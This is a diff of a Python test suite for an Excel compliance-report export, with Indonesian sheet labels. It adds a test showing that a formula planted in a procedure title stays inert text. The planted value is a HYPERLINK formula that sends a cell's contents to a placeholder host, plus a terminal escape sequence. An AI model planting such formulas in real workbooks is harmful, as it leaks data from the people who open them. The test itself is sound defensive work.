@@ -365,3 +365,17 @@ def test_a_period_without_procedures_says_so_on_the_list_sheet() -> None:
     sheet = workbook(compliance_xlsx(monitoring_values.empty_report()))["Daftar prosedur"]
     row_of(sheet, "Tidak ada prosedur yang dimulai pada periode ini.")
     assert sheet.page_setup.paperSize == PAPER_CODES["F4"]
+
+
+def test_peoples_text_stays_text_in_the_workbook() -> None:
+    # A title that reads as a formula stays words (never a live formula in the auditor's
+    # Excel), and a control character a workbook cannot hold is left out, not the report.
+    form = monitoring_values.monitoring_form(0)
+    first, *rest = form.sop.procedure_lines
+    planted = '=HYPERLINK("http://example.invalid/?"&B5,"Lihat")'
+    first = replace(first, title=planted + "\x1b[2J")
+    form = replace(form, sop=replace(form.sop, procedure_lines=(first, *rest)))
+    sheet = workbook(monitoring_form_xlsx(form))["Daftar prosedur"]
+    cell = sheet.cell(row=row_of(sheet, "No.") + 1, column=2)
+    assert cell.value == planted + "[2J"
+    assert cell.data_type == "s"
